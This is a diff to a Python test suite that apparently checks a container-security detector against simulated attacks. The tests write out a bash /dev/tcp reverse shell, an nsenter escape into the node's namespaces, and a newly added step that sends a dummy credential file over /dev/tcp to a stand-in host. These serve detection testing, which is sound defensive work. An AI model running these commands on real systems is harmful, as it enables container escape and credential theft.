@@ -14,7 +14,7 @@ import tempfile
 import unittest
 
 from harness import Listener, wait_until
-from watched import Watched
+from watched import ELSEWHERE, Watched
 
 KUBELET = "Kubelet API called from a container"
 RUN = "Command run in a container after an unexpected kubelet call"
@@ -32,6 +32,7 @@ NAMESPACES = "Container enters other namespaces"
 NAMESPACES_TRIED = "Container tries to enter other namespaces"
 MOUNTED_CREDENTIALS = "Container opens the node's credentials"
 ESCAPED = "Escaped process opens the node's credentials"
+CARRIED_OFF = "Node's credentials carried off"
 ON_NODE = "Node's credentials read by an unexpected program"
 
 NAMELESS = "Program without a name executed in a container"
@@ -71,6 +72,9 @@ assert call(248, ctypes.c_void_p(name), ctypes.c_void_p(name), ctypes.c_void_p(n
 
 TOKEN_DIRECTORY = "/var/run/secrets/kubernetes.io/serviceaccount"
 
+SECRET = "postgres SCRAM-SHA-256\n"
+
+
 class Scenario(Watched):
     def pod(self):
         """A container with a service account's token where a pod has it."""
@@ -94,7 +98,7 @@ class Scenario(Watched):
         directory = pathlib.Path(tempfile.mkdtemp(prefix="nezuban-", dir=base))
         self.addCleanup(shutil.rmtree, base if made else directory)
         file = directory / "pg_authid"
-        file.write_text("postgres SCRAM-SHA-256\n")
+        file.write_text(SECRET)
         return file
 
     @staticmethod
@@ -122,7 +126,7 @@ class Scenario(Watched):
         attacker = Listener()
         self.addCleanup(attacker.close)
         session = subprocess.Popen(
-            ["runc", "--root", pod.directory / "state", "exec", pod.id, "/usr/bin/bash", "-c",
+            [*pod.runtime, "exec", pod.id, "/usr/bin/bash", "-c",
              f"bash -i >& /dev/tcp/127.0.0.1/{attacker.port} 0>&1"],
             stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
         self.addCleanup(session.wait)
@@ -143,12 +147,19 @@ class Scenario(Watched):
         # 4. The privileged workload made with it enters the node, and 5. reads what is there: first
         # still in its container's cgroup, then in none.
         secret = self.database()
+        elsewhere = self.another_machine()
         breakout = self.run_privileged(
-            f"exec nsenter -t {self.service.pid} -m -C sh -c '"
-            f"cat {secret}; echo $$ >{self.cgroup2_mount()}/cgroup.procs; cat {secret}; echo all-done'")
+            f"exec nsenter -t {self.service.pid} -m -C bash -c '"
+            f"cat {secret}; echo $$ >{self.cgroup2_mount()}/cgroup.procs; cat {secret}; "
+            f"exec 3<>/dev/tcp/{ELSEWHERE}/{elsewhere.port}; cat {secret} >&3; echo all-done'")
+        with elsewhere.accept()[0] as thief:
+            self.assertEqual(thief.recv(4096), SECRET.encode())
         steps.append(self.expect(NAMESPACES, breakout, breakout.id))
         steps.append(self.expect(ESCAPED, breakout, breakout.id, fd_name=str(secret)))
         steps.append(self.expect(ESCAPED, breakout, "host", fd_name=str(secret)))
+        steps.append(self.expect(CARRIED_OFF, breakout, "host"))
+        self.assertTrue(steps[-1]["output_fields"]["fd.name"].endswith(f"->{ELSEWHERE}:{elsewhere.port}"))
+        self.assertEqual({r["rule"] for r in steps[-1]["related"]}, {"Node's credentials taken"})
         times = [step["output_fields"]["evt.time"] for step in steps]
         self.assertEqual(times, sorted(times))
 
